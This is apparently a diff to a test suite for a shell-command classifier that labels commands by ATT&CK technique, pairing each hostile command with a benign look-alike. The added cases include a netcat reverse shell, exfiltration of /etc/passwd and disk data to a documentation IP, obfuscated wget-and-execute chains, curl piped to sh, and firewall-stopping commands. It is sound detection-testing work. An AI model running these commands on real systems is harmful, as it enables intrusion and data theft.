@@ -67,6 +67,8 @@ const LOOK_ALIKES: ReadonlyArray<
   ['defense_evasion', 'T1562.004', 'ufw disable', 'ufw status'],
   ['defense_evasion', 'T1562.001', 'setenforce 0', 'getenforce'],
   ['defense_evasion', 'T1562.001', 'systemctl stop firewalld', 'systemctl is-active firewalld'],
+  ['defense_evasion', 'T1562.001', '/etc/init.d/iptables stop', '/etc/init.d/iptables status'],
+  ['service_stop', 'T1489', '/etc/init.d/nginx stop', '/etc/init.d/nginx status'],
   ['service_stop', 'T1489', 'pkill -9 xmrig', 'pgrep xmrig'],
   ['service_stop', 'T1489', 'kill -9 1234', 'kill -l'],
   // Credentials
@@ -120,6 +122,80 @@ const LOOK_ALIKES: ReadonlyArray<
   ['lateral_movement', 'T1046', 'masscan 192.0.2.0/24 -p22', 'ls /usr/bin/masscan'],
   ['discovery', 'T1082', 'uname -a', 'echo uname'],
   ['discovery', 'T1057', 'ps aux', 'echo ps'],
+  ['execution', 'T1059.004', 'nc -e /bin/sh 192.0.2.1 99', 'nc -w 3 192.0.2.1 99'],
+  // Data that leaves
+  ['exfiltration', 'T1048.002', 'scp -r /var/mail x@192.0.2.1:/m', 'scp -r x@192.0.2.1:/m /var/mail'],
+  ['exfiltration', 'T1048.002', 'rsync -a /etc/ x@192.0.2.1:/e', 'rsync -a /etc/ /tmp/e'],
+  ['exfiltration', 'T1048.003', 'dd if=/dev/sda1 | nc 192.0.2.1 99', 'echo stats | nc 192.0.2.1 11211'],
+  ['exfiltration', 'T1048.003', 'nc 192.0.2.1 99 < /etc/passwd', 'nc 192.0.2.1 99'],
+  ['exfiltration', 'T1048.003', 'curl -T /etc/passwd http://192.0.2.1/', 'curl -t x http://192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'curl -F f=@/etc/passwd http://192.0.2.1/', 'curl -F f=x http://192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'curl -d @/etc/passwd http://192.0.2.1/', 'curl http://x@192.0.2.1/'],
+  ['exfiltration', 'T1048.003', 'wget --post-file=/etc/passwd http://192.0.2.1/', 'wget http://192.0.2.1/'],
+  // Text that is run, and text that is only written
+  [
+    'download_command',
+    'T1105',
+    'eval $(echo "wget http://192.0.2.1/a")',
+    'echo $(echo "wget http://192.0.2.1/a")',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'eval "$(printf %s "wget http://192.0.2.1/a")"',
+    'printf %s "wget http://192.0.2.1/a"',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'sh -c "$(echo wget http://192.0.2.1/a)"',
+    'grep -c "$(echo wget http://192.0.2.1/a)" x',
+  ],
+  ['download_command', 'T1105', 'sh <<< "wget http://192.0.2.1/a"', 'cat <<< "wget http://192.0.2.1/a"'],
+  ['download_command', 'T1105', 'c="wget http://192.0.2.1/a"; $c', 'c="wget http://192.0.2.1/a"; echo $c'],
+  [
+    'download_command',
+    'T1105',
+    'c="wget http://192.0.2.1/a"; eval "$c"',
+    'c="wget http://192.0.2.1/a"; "$c"',
+  ],
+  ['download_command', 'T1105', 'w=wget; $w http://192.0.2.1/a', "w=wget; '$w' http://192.0.2.1/a"],
+  [
+    'download_command',
+    'T1105',
+    'w=wget; v=$w; $v http://192.0.2.1/a',
+    'w=wget; unset w; x=$w; $x http://192.0.2.1/a',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'echo "wget http://192.0.2.1/a" > x; sh x',
+    'echo "wget http://192.0.2.1/a" > x; cat x',
+  ],
+  [
+    'download_command',
+    'T1105',
+    'cat << E | sh\nwget http://192.0.2.1/a\nE',
+    'cat << E | wc\nwget http://192.0.2.1/a\nE',
+  ],
+  ['execution', 'T1059.004', 'echo "./bot" > x; sh x', 'echo "echo 0" > x; sh x'],
+  ['execution', 'T1222.002', 'wget http://192.0.2.1/x; chmod +x x', 'echo "echo 0" > x; chmod +x x'],
+  [
+    'execution',
+    'T1222.002',
+    'echo "echo 0" >> x; chmod +x x',
+    'echo "echo 0" > x; echo "exit" >> x; chmod +x x',
+  ],
+  [
+    'execution',
+    'T1222.002',
+    'f="/tmp/.x"; echo "echo 0" > $f; wget -O $f http://192.0.2.1/x; chmod +x $f',
+    'f="/tmp/.x"; echo "echo 0" > "$f" 2>/dev/null && chmod +x "$f" && [ "$("$f")" = 0 ] && rm -f "$f"',
+  ],
+  ['execution', 'T1059.004', 'echo "echo 0" > x; cp /tmp/bot x; ./x', 'echo "echo 0" > x; ls -l x; ./x'],
+  ['execution', 'T1059.004', 'echo "echo 0" > x; cd /tmp; ./x', 'cd /tmp; echo "echo 0" > x; ./x'],
+  ['execution', 'T1059.004', 'echo "echo 0 > /tmp/y" > x; ./x', 'echo "echo 0 > /dev/null" > x; ./x'],
+  ['execution', 'T1059.004', 'curl http://192.0.2.1/a | sh', 'echo "uname -a" | sh'],
 ]
 
 describe('behaviours of statements', () => {
@@ -181,10 +257,10 @@ describe('behaviours of statements', () => {
     ['a=wg; b=et; $a$b http://192.0.2.1/a', 'T1105'],
     ['a=wg; a+=et; "$a" http://192.0.2.1/a', 'T1105'],
     ['export W=wget; sh -c "$W http://192.0.2.1/a"', 'T1105'],
-    ['${w:-wget} http://192.0.2.1/a', 'T1105'],
+    [`\${w:-wget} http://192.0.2.1/a`, 'T1105'],
     ['w$@get http://192.0.2.1/a', 'T1105'],
-    ['w${nothing}get http://192.0.2.1/a', 'T1105'],
-    ['wget${IFS}http://192.0.2.1/a', 'T1105'],
+    [`w\${nothing}get http://192.0.2.1/a`, 'T1105'],
+    [`wget\${IFS}http://192.0.2.1/a`, 'T1105'],
     ['{wget,http://192.0.2.1/a}', 'T1105'],
     ['$(echo wget) http://192.0.2.1/a', 'T1105'],
     ['`which wget` http://192.0.2.1/a', 'T1105'],
@@ -239,9 +315,10 @@ describe('long commands', () => {
     const { behaviours, unread } = inCommand(doubling)
     expect(behaviours).toContain('padding')
     expect(unread).toBeGreaterThan(0)
-    const again = `a="${'b;'.repeat(4_000)}";${'eval "$a";'.repeat(1_000)}`
+    const again = `a="#${'b'.repeat(8_000)}";${'eval "$a";'.repeat(1_000)}`
     const reader = startReading()
-    for (const _ of shellStatements(again, reader)) expect(reader.nested).toBeLessThanOrEqual(262_144)
+    expect([...shellStatements(again, reader)].length).toBeGreaterThan(1_000)
+    expect(reader.nested).toBeLessThanOrEqual(262_144)
     expect(reader.unread).toBeGreaterThan(0)
   })
 
